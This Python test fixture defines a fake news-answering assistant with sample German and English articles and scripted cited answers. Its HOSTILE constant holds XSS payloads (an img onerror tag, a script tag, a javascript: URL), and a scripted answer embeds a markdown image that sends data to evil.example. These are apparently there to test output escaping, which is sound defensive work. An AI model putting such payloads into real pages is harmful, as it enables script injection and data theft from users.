"""An assistant whose every answer can be read here, without a model or an index."""

from __future__ import annotations

import datetime
import threading
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path

from assistant.answer import (
    Answer,
    Answered,
    Citation,
    DateFilter,
    Event,
    Found,
    Searched,
    Sentence,
    Turn,
    Written,
)
from assistant.settings import Settings
from vectorstore.article import Article, Passage
from vectorstore.errors import ArticleNotFound, BelegError, FetchError
from vectorstore.filters import Filters
from vectorstore.index_report import Stop, never
from vectorstore.web import WatchedFeed

HOSTILE = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'


@dataclass(frozen=True)
class FakeStatus:
    articles: int
    llm_state: str = "ready"
    llm_notice: str | None = None
    embedding_ready: bool = True
    embedding: str = "fake-e5"
    llm: str = "fake-llm"


@dataclass(frozen=True)
class FakeProgress:
    done: int
    total: int
    name: str


@dataclass(frozen=True)
class FakeFailure:
    path: str
    reason: str


@dataclass(frozen=True)
class FakeReport:
    added: tuple[str, ...] = ()
    updated: tuple[str, ...] = ()
    unchanged: tuple[str, ...] = ()
    removed: tuple[str, ...] = ()
    failed: tuple[FakeFailure, ...] = ()
    cancelled: bool = False


_FILLER = "\n\n".join(
    f"Absatz {number}. Die Gespräche dauerten bis in den Abend, und viele Fragen blieben offen. "
    "Beobachter sprachen von einem ersten Schritt, dem weitere folgen müssten."
    for number in range(1, 13)
)

MERZ = Article(
    id="merz",
    title="Merz nennt Bedingungen für einen Frieden",
    text=(
        "Berlin 🕊️ – Vor dem Gipfel in Alaska hat sich der Bundeskanzler geäußert.\n\n"
        f"{_FILLER}\n\n"
        "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz. "
        "Zunächst müsse es einen Waffenstillstand geben.\n\n"
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.\n\n"
        f"{_FILLER}"
    ),
    language="de",
    origin="/articles/merz.txt",
    date=datetime.date(2025, 8, 13),
    source="Tagesblatt",
    author="Anna Beispiel",
    url="https://tagesblatt.example/merz",
)

TARIFF = Article(
    id="tariff",
    title="US doubles tariff on Indian goods over Russian oil",
    text=(
        "Washington has imposed an additional tariff of 25 percent on goods from India.\n\n"
        "The order names purchases of Russian oil as the reason. "
        "New Delhi called the step unfair, unjustified and unreasonable.\n\n"
        "Together with an earlier tariff, the duty reaches 50 percent."
    ),
    language="en",
    origin="/articles/tariff.txt",
    date=datetime.date(2025, 8, 6),
    source="The Ledger",
)

EVIL = Article(
    id="evil",
    title=f"Böse {HOSTILE}",
    text=f"Vorsicht. {HOSTILE} ![x](http://evil.example/x.png) Ende.",
    language="de",
    origin="upload:evil.txt",
    date=datetime.date(2025, 1, 1),
    source=HOSTILE,
    url="javascript:window.__pwned=1",
)

ARTICLES = (MERZ, TARIFF, EVIL)


def cite(number: int, article: Article, quote: str) -> Citation:
    """Return a citation whose offsets are right to the code point."""
    start = article.text.index(quote)
    return Citation(number, article, quote, start, start + len(quote))


QUOTES = (
    cite(1, MERZ, "Die Ukraine müsse bei weiteren Treffen mit am Tisch sitzen, forderte Merz."),
    cite(2, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
    cite(
        3,
        MERZ,
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
    ),
)

TARIFF_QUOTES = (
    cite(
        1, TARIFF, "Washington has imposed an additional tariff of 25 percent on goods from India."
    ),
    cite(2, TARIFF, "The order names purchases of Russian oil as the reason."),
    cite(3, TARIFF, "New Delhi called the step unfair, unjustified and unreasonable."),
    cite(4, TARIFF, "Together with an earlier tariff, the duty reaches 50 percent."),
    cite(5, MERZ, "Zunächst müsse es einen Waffenstillstand geben."),
    cite(
        6,
        MERZ,
        "Er nannte außerdem am Mittwoch robuste Sicherheitsgarantien als Teil jeder Einigung.",
    ),
)


def answer_of(
    question: str, said: Sequence[tuple[str, tuple[int, ...], str | None]], **values: object
) -> Answer:
    """Return an answer made of (sentence, quote numbers, reason against it)."""
    words, sentences = "", []
    for sentence, numbers, reason in said:
        words += " " if words else ""
        start = len(words)
        words += sentence
        proof = ("unsupported", reason, "no_match") if reason else ("supported",)
        sentences.append(Sentence(sentence, start, len(words), numbers, *proof))
    filled = {"language": "en", "kind": "written", "citations": QUOTES} | values
    return Answer(question, question, text=words, sentences=tuple(sentences), **filled)


def merz_answer(question: str) -> Answer:
    return answer_of(
        question,
        (
            ("Merz demanded that Ukraine sit at the table at further meetings.", (1,), None),
            ("There must first be a ceasefire, and robust security guarantees.", (2, 3), None),
            ("He also wants to keep his influence in the region.", (), "No quote says this."),
        ),
    )


def german_answer(question: str) -> Answer:
    """Return a German answer with an English quote and two kinds of doubt."""
    return answer_of(
        question,
        (
            ("Die Ukraine muss laut Merz mit am Tisch sitzen.", (1,), None),
            (
                "Zugleich erhebt Washington einen Zoll von 30 Prozent auf Waren aus Indien.",
                (),
                "Das Zitat, das am nächsten kommt, nennt keine 30 Prozent.",
            ),
            ("Der Grund sind Indiens Käufe von russischem Öl.", (2,), None),
            ("Merz reist dazu nach Alaska.", (), "Kein Zitat in den Artikeln sagt das."),
        ),
        language="de",
        citations=(QUOTES[0], replace(TARIFF_QUOTES[1], number=2)),
    )


def unproven_answer(question: str) -> Answer:
    """Return the quotes that are left where nothing of a written answer held."""
    notice = "Nothing of the answer that was written is proven by the articles."
    return replace(quotes_answer(question), language="en", notice=notice)


def tariff_answer(question: str) -> Answer:
    return answer_of(
        question,
        (
            ("The US imposed an additional tariff of 25 percent on Indian goods.", (1,), None),
            ("The reason is India's purchases of Russian oil.", (2,), None),
            ("India called the step unfair, and the duty now reaches 50 percent.", (3, 4), None),
        ),
        citations=TARIFF_QUOTES,
        notice="The passages were shortened for the model.",
    )


def hostile_answer(question: str) -> Answer:
    image = "![x](http://evil.example/steal.png?q=secret)"
    return answer_of(
        question,
        (
            (f"Look {HOSTILE} {image} [here](http://evil.example/).", (1,), None),
            ("<b>Bold</b> and more.", (), HOSTILE),
        ),
        citations=(cite(1, EVIL, HOSTILE),),
        notice=HOSTILE,
    )


def quotes_answer(question: str) -> Answer:
    return Answer(
        question,
        question,
        "de",
        "quotes",
        " ".join(quote.quote for quote in QUOTES),
        citations=QUOTES,
        notice="Das Sprachmodell ist aus; hier sind die besten Zitate.",
    )


def missing_answer(question: str) -> Answer:
    passage = Passage(TARIFF, TARIFF.text[:150], 0, 150, 0.71)
    return Answer(
        question,
        question,
        "en",
        "not_found",
        "The articles do not say anything about this.",
        passages=(passage, Passage(MERZ, MERZ.text[:400], 0, 400, 0.6)),
    )


def moon_answer(question: str) -> Answer:
    """Return what comes nearest, and what was searched."""
    days = datetime.date(2014, 3, 3), datetime.date(2025, 5, 12)
    return replace(
        missing_answer(question),
        searched=Searched(214, *days),
        nearest=(replace(TARIFF_QUOTES[2], number=0), replace(QUOTES[1], number=0)),
    )


COPY = replace(MERZ, id="copy", title="Kanzler stellt Bedingungen", source="Abendpost", text="")
MERZ_PASSAGE = Passage(
    MERZ, MERZ.text[QUOTES[0].start : QUOTES[2].end], QUOTES[0].start, QUOTES[2].end, 0.9, (COPY,)
)


def agency_answer(question: str) -> Answer:
    return replace(merz_answer(question), passages=(MERZ_PASSAGE,))


def nothing_answer(question: str) -> Answer:
    notice = "No article fits the filters that are set. Remove one."
    return replace(missing_answer(question), passages=(), notice=notice)


DATES = {
    "last week": DateFilter(
        ("last week",), datetime.date(2026, 11, 16), datetime.date(2026, 11, 22)
    ),
    "letzte woche": DateFilter(
        ("letzte Woche",), datetime.date(2026, 11, 16), datetime.date(2026, 11, 22)
    ),
    "latest": DateFilter(("latest",), newest_first=True),
}

SCRIPTS = {
    "agency": agency_answer,
    "india": tariff_answer,
    "hostile": hostile_answer,
    "böse": hostile_answer,
    "off": quotes_answer,
    "moon": moon_answer,
    "nothing nearer": missing_answer,
    "fordert": german_answer,
    "unproven": unproven_answer,
}


@dataclass
class FakeFeeds:
    """Holds feeds without a file."""

    known: dict[str, WatchedFeed] = field(default_factory=dict)

    def all(self) -> list[WatchedFeed]:
        return list(self.known.values())


@dataclass
class FakeAssistant:
    """Answers by keyword; `gate` holds the writing back until a test lets it go on.

    With a cleared gate, `pieces_before_gate` words are written and the rest waits.
    """

    settings: Settings = field(default_factory=Settings)
    stored: dict[str, Article] = field(default_factory=lambda: {a.id: a for a in ARTICLES})
    former: dict[str, list[Article]] = field(default_factory=dict)
    indexed: list[list[object]] = field(default_factory=list)
    grouped: list[list[str]] = field(default_factory=list)
    llm_state: str = "ready"
    llm_notice: str | None = None
    gate: threading.Event = field(default_factory=threading.Event)
    pieces_before_gate: int = 0
    closed: threading.Event = field(default_factory=threading.Event)
    histories: list[tuple[Turn, ...]] = field(default_factory=list)
    limits: list[tuple[Filters, bool]] = field(default_factory=list)
    translated: list[tuple[str, int, int, str]] = field(default_factory=list)
    translating: threading.Event = field(default_factory=threading.Event)
    indexing: threading.Event = field(default_factory=threading.Event)
    feeds: FakeFeeds = field(default_factory=FakeFeeds)
    translation: str | BelegError = ""
    warmed_up: bool = False

    def __post_init__(self) -> None:
        self.gate.set()
        self.translating.set()
        self.indexing.set()

    def warm_up(self, *, wait: bool = False) -> None:
        self.warmed_up = True

    def stream(
        self,
        question: str,
        history: Sequence[Turn] = (),
        filters: Filters | None = None,
        *,
        read_dates: bool = True,
    ) -> Iterator[Event]:
        self.histories.append(tuple(history))
        self.limits.append((filters or Filters(), read_dates))
        if not question.strip() or len(question) > 2000:
            raise BelegError(f"The question has {len(question)} characters. Use 1 to 2000.")
        answer = self._limited(question, filters or Filters(), read_dates)
        if "refuse" in question:
            raise BelegError(f"The index is gone {HOSTILE}. Run beleg rebuild.")
        if "crash" in question:
            raise RuntimeError("secret detail of the program")
        try:
            yield Found(question, answer.language, answer.passages, answer.citations, answer.dates)
            yield from self._written(answer)
            yield Answered(answer)
        except GeneratorExit:
            self.closed.set()
            raise

    def _written(self, answer: Answer) -> Iterator[Written]:
        if answer.kind != "written":
            return
        for number, word in enumerate(answer.text.split(" ")):
            # In short steps, so that closing the generator is noticed while it waits.
            while number >= self.pieces_before_gate and not self.gate.wait(0.05):
                yield Written("")
            yield Written(word if number == 0 else f" {word}")

    def _answer(self, question: str) -> Answer:
        lowered = question.casefold()
        script = next((SCRIPTS[key] for key in SCRIPTS if key in lowered), merz_answer)
        return script(question)

    def _limited(self, question: str, filters: Filters, read_dates: bool) -> Answer:
        answer = self._answer(question)
        if not any(filters.accepts(article) for article in self.stored.values()):
            answer = nothing_answer(question)
        dates = next((DATES[words] for words in DATES if words in question.casefold()), None)
        return replace(answer, filters=filters, dates=dates if read_dates else None)

    def ask(
        self,
        question: str,
        history: Sequence[Turn] = (),
        filters: Filters | None = None,
        *,
        read_dates: bool = True,
    ) -> Answer:
        *_, last = self.stream(question, history, filters, read_dates=read_dates)
        return last.answer

    def search(self, query: str, k: int = 5, filters: Filters | None = None) -> list[Passage]:
        if not query.strip():
            raise BelegError("The query is empty. Write what to search for.")
        found = [a for a in ARTICLES if filters is None or filters.accepts(a)]
        return [Passage(a, a.text[:80], 0, 80, 0.9 - n / 10) for n, a in enumerate(found)][:k]

    def index(self, paths, progress=None, cancelled=None, *, forget=False) -> FakeReport:
        self.indexed.append(list(paths))
        if progress:
            progress(FakeProgress(1, 1, "merz.txt"))
        while not self.indexing.wait(0.05):
            if cancelled and cancelled():
                return FakeReport(cancelled=True)
        return FakeReport(unchanged=tuple(self.stored))

    def index_uploads(
        self, files: Mapping[str, bytes], progress=None, cancelled=None
    ) -> FakeReport:
        added, failed = [], []
        for done, (name, content) in enumerate(files.items(), start=1):
            if not content.strip():
                failed.append(FakeFailure(f"upload:{name}", "The file is empty."))
            else:
                self.stored[name] = Article(
                    name, Path(name).stem, content.decode(), "en", f"upload:{name}"
                )
                added.append(name)
            if progress:
                progress(FakeProgress(done, len(files), name))
        return FakeReport(added=tuple(added), failed=tuple(failed))

    def watch_feeds(self, urls: Sequence[str], every: datetime.timedelta | None) -> None:
        for url in urls:
            if url not in self.feeds.known:
                raise FetchError(f"{url} is no feed that could be read. Only feeds are watched.")
            self.feeds.known[url] = replace(self.feeds.known[url], every=every)

    def forget_feeds(self, urls: Sequence[str]) -> None:
        for url in urls:
            if url not in self.feeds.known:
                raise FetchError(f"{url} is no feed that was read. See: beleg feeds")
            del self.feeds.known[url]

    def articles(self) -> list[Article]:
        oldest = datetime.date.min
        newest_first = sorted(self.stored.values(), key=lambda a: a.date or oldest, reverse=True)
        return [replace(article, text="") for article in newest_first]

    def article(self, article_id: str) -> Article:
        if article_id not in self.stored:
            raise ArticleNotFound(f"No article has the id {article_id!r}.")
        return self.stored[article_id]

    def groups(self) -> list[list[str]]:
        return self.grouped

    def versions(self, article_id: str) -> list[Article]:
        return [self.article(article_id), *self.former.get(article_id, [])]

    def translate_quote(self, article_id: str, start: int, end: int, target: str) -> str:
        """Return the words as they are in capitals, once `translating` is set."""
        quote = self.article(article_id).text[start:end]
        self.translated.append((article_id, start, end, target))
        assert self.translating.wait(10)
        if isinstance(self.translation, BelegError):
            raise self.translation
        return self.translation or f"{target}: {quote.upper()}"

    def remove(self, article_ids: Sequence[str], cancelled: Stop = never) -> list[str]:
        titles = [self.article(article_id).title for article_id in article_ids]
        for article_id in article_ids:
            del self.stored[article_id]
        return titles

    def status(self) -> FakeStatus:
        return FakeStatus(len(self.stored), self.llm_state, self.llm_notice)

    def close(self) -> None:
        """Nothing is open."""
